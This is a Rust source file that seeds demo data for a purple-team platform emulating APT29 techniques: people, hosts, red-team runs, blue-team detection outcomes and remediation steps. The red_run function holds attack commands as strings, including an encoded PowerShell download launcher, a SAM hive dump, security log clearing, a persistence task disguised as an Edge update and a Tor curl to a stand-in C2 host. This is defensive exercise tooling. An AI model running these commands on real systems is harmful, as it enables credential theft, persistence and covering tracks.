//! What the demo says: its people, the red team's runs, the blue team's observations and the
//! remediation of the gaps, written for the demo (the ATT&CK subset is MITRE's: see
//! `attack-apt29.NOTICE`).

use aegis_domain::Role;
use aegis_domain::test_case::{Outcome, TestCase};

/// APT29, whose techniques the demo campaign emulates.
pub const DEMO_ACTOR: &str = "G0016";
pub const DEMO_CAMPAIGN: &str = "APT29 purple-team exercise (demo)";

/// Two scanners' results on the organization's own systems (SARIF 2.1.0, written for the demo):
/// Trivy on the intranet portal, Semgrep on the backup scripts.
pub(super) const SCANNER_SARIF: &[u8] = include_bytes!("scanner.sarif");

/// APT29's techniques (with their parents and the tactics) from MITRE ATT&CK Enterprise.
pub(super) const ATTACK_BUNDLE_GZ: &[u8] = include_bytes!("attack-apt29.json.gz");

pub(super) const SIGMA_RULES: &[(&str, &str)] = &[
    (
        "demo/powershell_encoded.yml",
        include_str!("rules/powershell_encoded.yml"),
    ),
    (
        "demo/wmi_process_create.yml",
        include_str!("rules/wmi_process_create.yml"),
    ),
    (
        "demo/schtasks_create.yml",
        include_str!("rules/schtasks_create.yml"),
    ),
    ("demo/lsass_dump.yml", include_str!("rules/lsass_dump.yml")),
    (
        "demo/log_cleared.yml",
        include_str!("rules/log_cleared.yml"),
    ),
    ("demo/proxy_tor.yml", include_str!("rules/proxy_tor.yml")),
];

pub(super) struct Person {
    pub email: &'static str,
    pub name: &'static str,
    pub role: Role,
}

pub(super) const PEOPLE: [Person; 6] = [
    Person {
        email: "morgan.admin@demo.aegis.local",
        name: "Morgan Reyes",
        role: Role::Admin,
    },
    Person {
        email: "riley.redlead@demo.aegis.local",
        name: "Riley Okafor",
        role: Role::RedLead,
    },
    Person {
        email: "sam.redtech@demo.aegis.local",
        name: "Sam Lindqvist",
        role: Role::RedTech,
    },
    Person {
        email: "bailey.bluelead@demo.aegis.local",
        name: "Bailey Nakamura",
        role: Role::BlueLead,
    },
    Person {
        email: "casey.bluetech@demo.aegis.local",
        name: "Casey Moreau",
        role: Role::BlueTech,
    },
    Person {
        email: "jordan.viewer@demo.aegis.local",
        name: "Jordan Patel",
        role: Role::Viewer,
    },
];

const HOSTS: [&str; 4] = [
    "WS-FIN-0142.corp.example",
    "WS-HR-0031.corp.example",
    "SRV-FILE-02.corp.example",
    "WS-ENG-0217.corp.example",
];

/// What red did.
pub(super) struct RedRun {
    pub procedure: String,
    pub command: String,
    pub tool: &'static str,
    pub target: &'static str,
    pub summary: String,
    pub log: String,
}

pub(super) fn red_run(test: &TestCase, index: usize) -> RedRun {
    let technique = test.technique_id.to_string();
    let target = HOSTS[index % HOSTS.len()];
    let (tool, command) = match technique.split('.').next().unwrap_or_default() {
        "T1059" => (
            "PowerShell",
            "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        ),
        "T1047" => (
            "wmic",
            "wmic /node:SRV-FILE-02 process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt\"",
        ),
        "T1053" => (
            "schtasks",
            "schtasks /create /tn \"MicrosoftEdgeUpdateTaskMachineUA\" /tr C:\\ProgramData\\edge\\update.exe /sc onlogon",
        ),
        "T1003" => ("reg", "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save"),
        "T1070" => ("wevtutil", "wevtutil cl Security"),
        "T1090" => (
            "Tor",
            "tor.exe --SocksPort 9050 && curl --socks5-hostname 127.0.0.1:9050 https://c2.example",
        ),
        "T1027" => (
            "Invoke-Obfuscation",
            "Invoke-Obfuscation -ScriptPath .\\stager.ps1 -Command 'Token\\All\\1' -Quiet",
        ),
        "T1021" => (
            "Windows Remote Management",
            "Enter-PSSession -ComputerName SRV-FILE-02 -Credential corp\\svc-backup",
        ),
        _ => (
            "Atomic Red Team",
            "Invoke-AtomicTest -TestNumbers 1 -ShowDetailsBrief",
        ),
    };
    RedRun {
        procedure: format!(
            "Emulated APT29's use of {technique} ({}) on {target} from the red team's jump host, \
             as a standard domain user, during the agreed test window.",
            test.title
        ),
        command: command.to_owned(),
        tool,
        target,
        summary: format!(
            "Executed {technique} on {target}; the command completed with exit code 0."
        ),
        log: format!(
            "# red team execution log\nhost: {target}\ntechnique: {technique}\n\
             operator: sam.redtech\n$ {command}\nexit code: 0\n"
        ),
    }
}

/// What blue saw.
pub(super) struct BlueView {
    pub outcome: Outcome,
    pub detected: bool,
    pub source: Option<&'static str>,
    pub notes: String,
    pub export: String,
}

/// A spread of outcomes a real exercise ends with: mostly detected or prevented, some gaps.
const OUTCOMES: [Outcome; 8] = [
    Outcome::Detected,
    Outcome::Prevented,
    Outcome::Detected,
    Outcome::Logged,
    Outcome::NotDetected,
    Outcome::Detected,
    Outcome::Prevented,
    Outcome::Logged,
];

pub(super) fn blue_view(test: &TestCase, index: usize) -> BlueView {
    let outcome = OUTCOMES[index % OUTCOMES.len()];
    let technique = test.technique_id.to_string();
    let (source, notes) = match outcome {
        Outcome::Prevented => (
            Some("Microsoft Defender for Endpoint"),
            "Blocked by the EDR's attack surface reduction rules before it ran.".to_owned(),
        ),
        Outcome::Detected => (
            Some("Splunk Enterprise Security"),
            format!(
                "A correlation search raised a notable event for {technique} within four minutes."
            ),
        ),
        Outcome::Logged => (
            Some("Windows Security event log"),
            "The events are in the SIEM but no rule alerted on them.".to_owned(),
        ),
        Outcome::NotDetected => (
            None,
            "Nothing in the SIEM or the EDR console for the test window.".to_owned(),
        ),
    };
    let export = serde_json::json!({
        "search": format!("index=edr technique=\"{technique}\" earliest=-1h"),
        "outcome": outcome.as_str(),
        "source": source,
        "results": match outcome {
            Outcome::NotDetected => serde_json::json!([]),
            _ => serde_json::json!([{"rule": format!("{technique} activity"), "severity": "high"}]),
        },
    })
    .to_string();
    BlueView {
        outcome,
        detected: outcome == Outcome::Detected,
        source,
        notes,
        export,
    }
}

/// The steps that close a gap: an alert on telemetry already collected (logged), or the
/// telemetry first (not detected); then a retest.
pub(super) fn remediation(outcome: Outcome) -> [(&'static str, &'static str); 2] {
    let first = match outcome {
        Outcome::NotDetected => (
            "Collect the telemetry the technique leaves",
            "Enable process creation auditing with command lines (event 4688) and forward it to the SIEM.",
        ),
        _ => (
            "Alert on the events already collected",
            "Start from the matching Sigma rule, tune it on two weeks of production logs, deploy it to the SIEM.",
        ),
    };
    [
        first,
        (
            "Retest with the red team",
            "Ask the red lead for a retest once the change has been in production for a week.",
        ),
    ]
}
